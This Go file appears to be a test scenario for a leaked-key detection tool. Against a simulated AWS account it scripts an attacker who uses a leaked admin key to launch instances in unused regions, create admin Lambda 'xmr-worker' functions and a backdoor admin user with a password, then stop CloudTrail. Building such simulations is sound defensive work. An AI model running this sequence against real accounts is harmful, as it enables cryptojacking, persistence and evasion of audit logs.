package scenario

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	lambdatypes "github.com/aws/aws-sdk-go-v2/service/lambda/types"

	"github.com/keyleak/keyleak/test/world"
)

// Names of the cost-attack scenario.
const (
	CostUser         = "terraform-ci"
	CostBackdoorUser = "support-admin"
	costTrail        = "org-trail"
)

// CostRegions are the regions the account never used, where the attacker launches compute.
func CostRegions() []string { return []string{"ap-southeast-1", "sa-east-1", "eu-north-1"} }

var (
	costAttackerIPs = []string{"103.251.167.20", "91.92.251.103"}
	costAttackerUA  = "aws-cli/1.32.70 Python/3.10.12 Linux/5.15.0-105-generic botocore/1.34.70"
	appUA           = "aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/s3#1.58.2 orders-api/7.2.0"
)

// CostAttack leaks terraform-ci's (admin) key; the attacker runs on-demand and spot
// instances in three unused regions, creates Lambda functions, a backdoor admin user with a
// key and a console password, and stops the trail. Cost Explorer holds a 14-day baseline
// and the spike of what was launched.
func CostAttack() Scenario {
	s := &costAttack{}
	return Scenario{
		Name: "cost-attack",
		Description: "terraform-ci's admin key leaks; the attacker launches instances and spot requests in " +
			"ap-southeast-1, sa-east-1 and eu-north-1, creates Lambda functions and a backdoor admin user, and " +
			"stops CloudTrail logging; Cost Explorer shows the spike",
		Setup: s.setup, Legit: s.legit, Attack: s.attack,
		KeyCI: ciTerraform(func() []string { return s.orders }), CIAddress: "34.201.7.12",
	}
}

type costAttack struct {
	app    world.Credentials
	orders []string // the orders API's instances
}

func (s *costAttack) setup(ctx context.Context, r *Run) error {
	b := r.builder(world.DefaultAccount)
	t := &r.Target
	t.Account, t.LeakedUser, t.TrailBucket = world.DefaultAccount, CostUser, r.World.Gateway.TrailBucket()
	t.Regions = append([]string{"us-east-1"}, CostRegions()...)
	if err := baseAccount(ctx, b); err != nil {
		return err
	}
	if _, err := b.user(ctx, CostUser, nil, []string{"arn:aws:iam::aws:policy/AdministratorAccess"}); err != nil {
		return err
	}
	var err error
	if t.Leaked, err = b.accessKey(ctx, CostUser); err != nil {
		return err
	}
	appARN, err := b.user(ctx, "orders-api", policies{"orders": document(allow("arn:aws:s3:::orders-bucket/*", "s3:GetObject", "s3:PutObject"))}, nil)
	if err != nil {
		return err
	}
	if s.app, err = b.accessKey(ctx, "orders-api"); err != nil {
		return err
	}
	t.LegitPrincipals = []string{appARN}
	t.LegitKeys = []world.Credentials{s.app}
	if s.orders, err = b.instances(ctx, "us-east-1", "orders-api", "m5.large", 3); err != nil {
		return err
	}
	return b.bucket(ctx, "us-east-1", "orders-bucket", content{key: "orders/latest.json", body: []byte(`{"orders":[]}`)})
}

// legit: the orders API reads its latest orders every 20 minutes from 10.2.0.15.
func (s *costAttack) legit(ctx context.Context, r *Run, from, to time.Time) error {
	a := newActor(r.World, r.legit, "10.2.0.15", appUA, from)
	key := credential{Credentials: s.app, Label: "orders-api", Account: r.Target.Account}
	for at := from; at.Before(to); at = at.Add(20 * time.Minute) {
		a.at(at)
		if _, err := a.getObject(ctx, "us-east-1", key, "orders-bucket", "orders/latest.json"); err != nil {
			return err
		}
	}
	return nil
}

// Instance types the attacker launches and their hourly prices (USD, Linux on-demand and spot).
const (
	costOnDemandType = "c5.4xlarge"
	costSpotType     = "p3.2xlarge"
	costOnDemandN    = 4
	costSpotN        = 2
)

func (s *costAttack) attack(ctx context.Context, r *Run) error {
	a := newActor(r.World, r.attacker, costAttackerIPs[0], costAttackerUA, r.Start)
	back := newActor(r.World, r.attacker, costAttackerIPs[1], costAttackerUA, r.Start)
	leaked := credential{Credentials: r.Target.Leaked, Label: "leaked", Account: r.Target.Account}
	var backdoor credential
	iamc := func() *iam.Client { return iam.NewFromConfig(a.config("us-east-1", leaked)) }
	var lambdaRole string
	steps := []step{
		{0, func(ctx context.Context) error { return a.whoami(ctx, leaked) }},
		{2 * time.Minute, func(ctx context.Context) error {
			_, err := ec2.NewFromConfig(a.config("us-east-1", leaked)).DescribeRegions(ctx, &ec2.DescribeRegionsInput{})
			return wrap(err, "describe regions")
		}},
	}
	for i, region := range CostRegions() {
		at := time.Duration(5+4*i) * time.Minute
		steps = append(steps,
			step{at, func(ctx context.Context) error {
				_, err := ec2.NewFromConfig(a.config(region, leaked)).RunInstances(ctx, &ec2.RunInstancesInput{
					ImageId: aws.String(nodeImage), InstanceType: costOnDemandType, MinCount: aws.Int32(costOnDemandN), MaxCount: aws.Int32(costOnDemandN)})
				return wrap(err, "run instances in "+region)
			}},
			step{at + time.Minute, func(ctx context.Context) error {
				_, err := ec2.NewFromConfig(a.config(region, leaked)).RequestSpotInstances(ctx, &ec2.RequestSpotInstancesInput{
					InstanceCount: aws.Int32(costSpotN), SpotPrice: aws.String("3.06"),
					LaunchSpecification: &ec2types.RequestSpotLaunchSpecification{ImageId: aws.String(nodeImage), InstanceType: costSpotType}})
				return wrap(err, "request spot instances in "+region)
			}})
	}
	steps = append(steps,
		step{20 * time.Minute, func(ctx context.Context) error {
			out, err := iamc().CreateRole(ctx, &iam.CreateRoleInput{RoleName: aws.String("lambda-runtime-role"),
				AssumeRolePolicyDocument: aws.String(document(stmt{Effect: "Allow", Principal: map[string]any{"Service": "lambda.amazonaws.com"}, Action: "sts:AssumeRole"}))})
			if err != nil {
				return fmt.Errorf("create lambda role: %w", err)
			}
			lambdaRole = *out.Role.Arn
			return nil
		}},
		step{21 * time.Minute, func(ctx context.Context) error {
			_, err := iamc().AttachRolePolicy(ctx, &iam.AttachRolePolicyInput{RoleName: aws.String("lambda-runtime-role"),
				PolicyArn: aws.String("arn:aws:iam::aws:policy/AdministratorAccess")})
			return wrap(err, "attach admin to lambda role")
		}},
	)
	for i, region := range CostRegions()[:2] {
		steps = append(steps, step{time.Duration(23+i) * time.Minute, func(ctx context.Context) error {
			return createFunction(ctx, a, region, leaked, fmt.Sprintf("xmr-worker-%d", i+1), lambdaRole)
		}})
	}
	steps = append(steps,
		step{30 * time.Minute, func(ctx context.Context) error {
			_, err := iamc().CreateUser(ctx, &iam.CreateUserInput{UserName: aws.String(CostBackdoorUser)})
			return wrap(err, "create backdoor user")
		}},
		step{31 * time.Minute, func(ctx context.Context) error {
			out, err := iamc().CreateAccessKey(ctx, &iam.CreateAccessKeyInput{UserName: aws.String(CostBackdoorUser)})
			if err != nil {
				return fmt.Errorf("create backdoor key: %w", err)
			}
			backdoor = credential{Credentials: world.Credentials{AccessKeyID: *out.AccessKey.AccessKeyId,
				SecretAccessKey: *out.AccessKey.SecretAccessKey}, Label: "user/" + CostBackdoorUser, Account: r.Target.Account}
			return nil
		}},
		step{32 * time.Minute, func(ctx context.Context) error {
			_, err := iamc().CreateLoginProfile(ctx, &iam.CreateLoginProfileInput{UserName: aws.String(CostBackdoorUser),
				Password: aws.String("Sup-p0rt!Adm1n-2026"), PasswordResetRequired: false})
			return wrap(err, "create backdoor login profile")
		}},
		step{33 * time.Minute, func(ctx context.Context) error {
			_, err := iamc().AttachUserPolicy(ctx, &iam.AttachUserPolicyInput{UserName: aws.String(CostBackdoorUser),
				PolicyArn: aws.String("arn:aws:iam::aws:policy/AdministratorAccess")})
			return wrap(err, "attach admin to backdoor user")
		}},
		step{36 * time.Minute, func(ctx context.Context) error { return back.whoami(ctx, backdoor) }},
		step{40 * time.Minute, func(ctx context.Context) error {
			_, err := cloudtrail.NewFromConfig(a.config("us-east-1", leaked)).StopLogging(ctx, &cloudtrail.StopLoggingInput{Name: aws.String(costTrail)})
			return wrap(err, "stop logging")
		}},
	)
	if err := play(ctx, r.Start, steps, a, back); err != nil {
		return err
	}
	return s.seedCost(ctx, r)
}

func createFunction(ctx context.Context, a *actor, region string, c credential, name, role string) error {
	code, err := lambdaZip()
	if err != nil {
		return err
	}
	_, err = lambda.NewFromConfig(a.config(region, c)).CreateFunction(ctx, &lambda.CreateFunctionInput{
		FunctionName: aws.String(name), Role: aws.String(role), Runtime: lambdatypes.RuntimePython312,
		Handler: aws.String("lambda_function.handler"), Code: &lambdatypes.FunctionCode{ZipFile: code},
		Timeout: aws.Int32(900), MemorySize: aws.Int32(10240),
	})
	return wrap(err, "create function "+name+" in "+region)
}

// lambdaZip is the deployment package of the attacker's function.
func lambdaZip() ([]byte, error) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	f, err := zw.Create("lambda_function.py")
	if err != nil {
		return nil, fmt.Errorf("zip function: %w", err)
	}
	if _, err := f.Write([]byte("def handler(event, context):\n    return {'ok': True}\n")); err != nil {
		return nil, fmt.Errorf("zip function: %w", err)
	}
	if err := zw.Close(); err != nil {
		return nil, fmt.Errorf("zip function: %w", err)
	}
	return buf.Bytes(), nil
}
